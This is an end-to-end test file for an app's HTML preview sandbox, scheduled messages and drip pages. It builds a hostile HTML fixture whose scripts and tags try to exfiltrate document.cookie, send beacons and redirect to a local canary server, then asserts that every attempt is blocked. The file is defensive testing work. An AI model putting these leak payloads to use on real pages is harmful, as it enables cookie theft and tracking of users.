/**
 * Drips and scheduled messages in Chromium, end to end. The point is the HTML preview's isolation:
 * an HTML item that tries everything (fetch the app's API and an outside server, read the cookie,
 * local storage and the parent page, load images, styles, fonts and frames, submit a form, run a
 * handler, refresh itself elsewhere) is shown in the drip page's sandboxed frame and opened on its
 * own, and none of it happens: nothing leaves it (a canary server on loopback sees no request and
 * not even a connection, and the browser's own log shows every try blocked by the policy), no
 * script runs, the parent is untouched, and the frame's origin is opaque. With `dripHtmlPreviewEnabled` off the page shows a plain chip and the route refuses.
 * The pages themselves are looked at, at 1440 and 390 px wide.
 */
import { createServer, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { Page } from "playwright-core";
import { consoleErrors, loggedInPage, serverAndBrowser, setSetting } from "./harness";

const e2e = serverAndBrowser();

/** Every request the canary server got: nothing of a preview may reach it. */
const canaryHits: string[] = [];
const canary = createServer((request: IncomingMessage, response) => {
  canaryHits.push(`${request.method} ${request.url}`);
  response.writeHead(200, { "Content-Type": "text/plain", "Access-Control-Allow-Origin": "*" });
  response.end("leaked");
});
let canaryUrl = "";
/** Connections opened to the canary, requests or not: a preconnect would tell it the item was seen. */
let canaryConnections = 0;
canary.on("connection", () => (canaryConnections += 1));

beforeAll(async () => {
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => canary.close(() => resolve())));

/** An HTML item that tries to reach out in every way a page can, to `outside` and to the app at `app`. */
function hostileHtml(outside: string, app: string): string {
  const tries = [outside, app].map(
    (base) => `
    <link rel="stylesheet" href="${base}/leak/link-css">
    <link rel="prefetch" href="${base}/leak/prefetch">
    <style>
      @import url("${base}/leak/import");
      @font-face { font-family: leak; src: url("${base}/leak/font"); }
      .bg { background: url("${base}/leak/background"); font-family: leak; }
    </style>
    <img src="${base}/leak/img" alt="">
    <img src="x" alt="" onerror="fetch('${base}/leak/onerror')">
    <iframe src="${base}/leak/frame"></iframe><IFRAME SRC="${base}/leak/frame-upper"></IFRAME>
    <frameset><frame src="${base}/leak/frameset"></frameset>
    <embed src="${base}/leak/embed">
    <link rel="preconnect" href="${base}"><link rel="dns-prefetch" href="${base}">
    <object data="${base}/leak/object"></object>
    <video poster="${base}/leak/poster"></video>
    <svg><image href="${base}/leak/svg-image"/></svg>
    <form action="${base}/leak/form" method="post"><input name="a" value="b"></form>
    <script src="${base}/leak/script.js"></script>
    <script>
      fetch("${base}/leak/fetch?cookie=" + encodeURIComponent(document.cookie)).catch(() => {});
      navigator.sendBeacon("${base}/leak/beacon", "x");
      new Image().src = "${base}/leak/script-img";
    </script>`,
  );
  return `<!doctype html>
<html><head>
  <meta http-equiv="refresh" content="1; url=${outside}/leak/refresh">
  <title>Card</title>
</head><body>
  <h1 id="card" class="bg" style="color: rgb(200, 0, 0)">A card</h1>
  <img id="pixel" alt="a pixel" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
  ${tries.join("\n")}
  <script>
    document.getElementById("card").textContent = "scripts ran";
    try { localStorage.setItem("leak", "1"); } catch (e) {}
    try { parent.document.body.dataset.leaked = "parent"; } catch (e) {}
    try { top.location = "${outside}/leak/top"; } catch (e) {}
    document.forms[0].submit();
  </script>
</body></html>`;
}

/** Makes an app drip holding `items`; its id and the items' ids by name. */
async function appDrip(name: string, items: { name: string; content: string }[]) {
  const made = await e2e.server.api<{ id: string }>("POST", "/drips", {
    name,
    rrule: "FREQ=DAILY;BYHOUR=9;BYMINUTE=0",
    timeZone: "Europe/Berlin",
  });
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  const ids = new Map<string, string>();
  for (const item of items) {
    const added = await e2e.server.api<{ id: string }>("POST", `/drips/${made.body.id}/items`, item);
    expect(added.status, JSON.stringify(added.body)).toBe(201);
    ids.set(item.name, added.body.id);
  }
  return { id: made.body.id, ids };
}

/**
 * What became of every `/leak/` request the context's pages and frames tried: Chromium reports a
 * load the policy blocked as a request that failed before it left, so a request that got any
 * answer (from the canary or from the app) is one that really reached a server.
 */
function leakRequests(page: Page): { answered: string[]; blocked: string[] } {
  const seen = { answered: [] as string[], blocked: [] as string[] };
  const context = page.context();
  context.on("response", (response) => {
    if (response.url().includes("/leak/")) seen.answered.push(`${response.status()} ${response.url()}`);
  });
  context.on("requestfailed", (request) => {
    if (request.url().includes("/leak/")) seen.blocked.push(`${request.failure()?.errorText} ${request.url()}`);
  });
  return seen;
}

test("an HTML item's preview runs nothing and reaches nothing, framed or opened alone", async () => {
  const app = e2e.server.uiUrl;
  const { id, ids } = await appDrip("Hostile cards", [
    { name: "card.html", content: hostileHtml(canaryUrl, app) },
    { name: "Welcome", content: "# Welcome\n\nDay **one** of the course." },
  ]);
  const card = ids.get("card.html") ?? "";
  const { page } = await loggedInPage(e2e, `/drips/${id}?item=${card}`);
  const leaks = leakRequests(page);
  const errors = consoleErrors(page);
  await page.evaluate(() => localStorage.setItem("own", "kept"));

  const frameElement = page.locator("iframe.drip-frame");
  await frameElement.waitFor();
  expect(await frameElement.getAttribute("sandbox")).toBe("");
  const frame = await (await frameElement.elementHandle())?.contentFrame();
  if (!frame) throw new Error("the preview frame has no document");
  await frame.waitForURL(/\/preview$/);
  await frame.locator("#card").waitFor();
  // The markup shows, its inline style and data: image too; its scripts never ran.
  expect(await frame.locator("#card").textContent()).toBe("A card");
  expect(await frame.locator("#card").evaluate((h) => getComputedStyle(h).color)).toBe("rgb(200, 0, 0)");
  expect(await frame.locator("#pixel").evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(1);
  expect(await frame.evaluate(() => window.origin)).toBe("null");
  // Its document may not even ask for a cookie or storage: it is no origin's.
  await expect(frame.evaluate(() => document.cookie)).rejects.toThrow(/sandboxed/);
  await expect(frame.evaluate(() => localStorage.length)).rejects.toThrow(/sandboxed|denied/i);
  // Long enough for the refresh, the form and every load to have been tried.
  await page.waitForTimeout(2_500);
  expect(frame.url()).toContain(`/items/${card}/preview`);
  expect(await page.evaluate(() => document.body.dataset.leaked)).toBeUndefined();
  expect(await page.evaluate(() => localStorage.getItem("leak"))).toBeNull();
  expect(await page.evaluate(() => localStorage.getItem("own"))).toBe("kept");
  expect(page.url()).toContain(`/drips/${id}`);
  expect(canaryHits).toEqual([]);
  expect(canaryConnections).toBe(0);
  expect(leaks.answered).toEqual([]);
  // What was tried at all was stopped by the policy, in the browser.
  expect(leaks.blocked.length).toBeGreaterThan(0);
  expect(leaks.blocked.filter((b) => !b.startsWith("csp "))).toEqual([]);

  // Opened on its own (a link copied into a tab): the reply's own policy still sandboxes it.
  const alone = await page.context().newPage();
  const reply = await alone.goto(`${app}/api/drips/${id}/items/${card}/preview`);
  expect(reply?.status()).toBe(200);
  expect(reply?.headers()["content-security-policy"]).toMatch(/^sandbox; default-src 'none'/);
  await alone.locator("#card").waitFor();
  expect(await alone.locator("#card").textContent()).toBe("A card");
  expect(await alone.evaluate(() => window.origin)).toBe("null");
  await alone.waitForTimeout(2_500);
  expect(alone.url()).toContain("/preview");
  expect(canaryHits).toEqual([]);
  expect(canaryConnections).toBe(0);
  expect(leaks.answered).toEqual([]);
  await alone.close();

  // A Markdown item is rendered, not framed.
  await page.locator("li[data-item-id] button", { hasText: "Welcome" }).click();
  await page.locator(".drip-markdown strong", { hasText: "one" }).waitFor();
  // Only the blocked tries are in the console: nothing of the page's own.
  expect(errors.filter((e) => !/Content Security Policy|sandbox|Blocked|ERR_BLOCKED/i.test(e))).toEqual([]);
});

test("with previews off an HTML item is a plain chip and its preview route refuses", async () => {
  const { id, ids } = await appDrip("Chips", [{ name: "page.html", content: "<p id=p>hello</p>" }]);
  const item = ids.get("page.html") ?? "";
  await setSetting(e2e.server, "dripHtmlPreviewEnabled", false);
  try {
    const { page } = await loggedInPage(e2e, `/drips/${id}?item=${item}`);
    await page.locator(".drip-chip", { hasText: "page.html" }).waitFor();
    expect(await page.locator("iframe").count()).toBe(0);
    const refused = await e2e.server.api<{ error: { code: string } }>("GET", `/drips/${id}/items/${item}/preview`);
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe("drip_html_preview_disabled");
  } finally {
    await setSetting(e2e.server, "dripHtmlPreviewEnabled", true);
  }
});

/** Saves a screenshot of `page` at `width` for a person to look at. */
async function shoot(page: Page, name: string, width: number) {
  await page.setViewportSize({ width, height: 900 });
  await page.waitForTimeout(200);
  const dir = process.env.DRIPS_SCREENSHOTS ?? mkdtempSync(join(tmpdir(), "drips-shots-"));
  await page.screenshot({ path: join(dir, `${name}-${width}.png`), fullPage: true });
  // Nothing wider than the window: no sideways scrolling on a phone.
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
}

test("the pages make, list and pause scheduled messages and drips, and follow their settings", async () => {
  const folder = mkdtempSync(join(tmpdir(), "drip-folder-"));
  for (const [name, text] of [
    ["1-welcome.md", "# Welcome\nDay one."],
    ["2-card.html", "<p>A card</p>"],
    ["10-last.txt", "The end."],
  ]) {
    writeFileSync(join(folder, name ?? ""), text ?? "");
  }
  const { page } = await loggedInPage(e2e, "/scheduled-messages");
  const errors = consoleErrors(page);
  await page.getByRole("heading", { name: "Scheduled messages", exact: true }).waitFor();
  await page.getByRole("button", { name: "New message" }).click();
  const form = page.getByRole("form", { name: "New scheduled message" });
  await form.getByLabel(/^Note/).fill("# Weekly review\n\n- What shipped?\n- What is stuck?");
  await form.getByLabel("Repeats").selectOption("custom");
  await form.getByRole("radio", { name: "RRULE" }).check();
  await form.getByRole("textbox", { name: /^RRULE/ }).fill("FREQ=WEEKLY;BYDAY=XX");
  await form.getByLabel("Time zone").fill("Europe/Berlin");
  await form.getByRole("button", { name: "Schedule" }).click();
  // The server's refusal shows beside the field it names.
  await form.locator("[aria-invalid=true]").waitFor();
  await shoot(page, "message-form", 390);
  await page.setViewportSize({ width: 1400, height: 900 });
  await form.getByLabel("Repeats").selectOption("weekly");
  await form.getByRole("combobox", { name: /^On\b/ }).selectOption("5");
  await form.locator("input[type=time]").fill("16:30");
  // The picker says when it comes next, in words.
  await form.getByText(/^Next: .*Friday .*at 16:30/).waitFor();
  await form.getByRole("button", { name: "Schedule" }).click();
  const card = page.locator("li[data-message-id]", { hasText: "Weekly review" });
  await card.waitFor();
  await card.getByText("Every week on Friday at 16:30").waitFor();
  await card.getByRole("button", { name: "Pause" }).click();
  await card.locator(".drip-state", { hasText: "Paused" }).waitFor();
  await shoot(page, "scheduled-messages", 1440);
  await shoot(page, "scheduled-messages", 390);

  await page.setViewportSize({ width: 1400, height: 900 });
  await page.goto(`${e2e.server.uiUrl}/drips`);
  await page.getByRole("button", { name: "New drip" }).click();
  const dripForm = page.getByRole("form", { name: "New drip" });
  await dripForm.getByLabel("Name").fill("Course");
  await dripForm.getByLabel(/^Folder/).fill(join(folder, "missing"));
  await dripForm.getByRole("button", { name: "Make the drip" }).click();
  await dripForm.locator("#drip-form-folder-error").waitFor();
  await shoot(page, "drip-form", 1440);
  await shoot(page, "drip-form", 390);
  await page.setViewportSize({ width: 1400, height: 900 });
  await dripForm.getByLabel(/^Folder/).fill(folder);
  await dripForm.getByRole("button", { name: "Make the drip" }).click();
  const detail = page.locator("article.drip-detail");
  await detail.getByRole("heading", { name: "Course" }).waitFor();
  // The heading can come before the folder's items are read: wait for the list itself.
  await expect
    .poll(() => detail.locator(".drip-item-name").allTextContents())
    .toEqual(["1-welcome.md", "2-card.html", "10-last.txt"]);
  await detail.locator("li[data-item-id] button", { hasText: "2-card.html" }).click();
  await detail.locator("iframe.drip-frame").waitFor();
  await shoot(page, "drips", 1440);
  await shoot(page, "drips", 390);
  await page.setViewportSize({ width: 1400, height: 900 });

  // Release next now: the first file goes at once, and the queue says so.
  await detail.getByRole("button", { name: "Release next now" }).click();
  await detail.getByText("2 waiting · 1 released").waitFor();

  // The settings surface the pages: off, they leave the sidebar.
  await page.setViewportSize({ width: 1400, height: 900 });
  const nav = page.getByRole("navigation", { name: "Sections" });
  await nav.getByRole("link", { name: "Drips" }).waitFor();
  await setSetting(e2e.server, "dripEnabled", false);
  await setSetting(e2e.server, "scheduledMessagesEnabled", false);
  await page.reload();
  // Once the settings are read, both leave the sidebar.
  await nav.getByRole("link", { name: "Drips" }).waitFor({ state: "detached" });
  await nav.getByRole("link", { name: "Scheduled messages" }).waitFor({ state: "detached" });
  await nav.getByRole("link", { name: "Settings" }).waitFor();
  await page.getByText("Drips are turned off (setting dripEnabled).").waitFor();
  await setSetting(e2e.server, "dripEnabled", true);
  await setSetting(e2e.server, "scheduledMessagesEnabled", true);
  // The 400s are the refusals tried on purpose, the 403s the pages while turned off.
  expect(errors.filter((e) => !/\b(400|403)\b|Content Security Policy/.test(e))).toEqual([]);
});
